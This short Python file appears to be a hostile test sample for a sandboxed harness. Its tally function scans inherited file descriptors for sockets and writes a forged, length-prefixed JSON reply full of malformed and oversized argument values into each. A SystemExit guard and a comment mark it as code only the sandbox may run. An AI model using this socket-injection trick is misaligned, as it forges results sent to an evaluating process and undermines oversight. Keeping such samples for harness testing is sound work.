"""Arguments that the function changes into something else.

A forged reply changes arguments that do not exist, to values that do not fit.

score: 12 (loses tally)
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% tally
import json
import os
import stat
import struct


def tally(labels):
    changes = [
        [-1, ["a"] * 100_000],
        [7, {"dict": []}],
        ["0", None],
        [0, {"range": [0, 10**12, 1]}],
    ]
    text = json.dumps([{"value": {"dict": [["a", 2], ["b", 1]]}, "changed": changes}, []]).encode()
    for fd in range(3, 100):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("!IQ", len(text), 0) + text)
        except OSError:
            pass
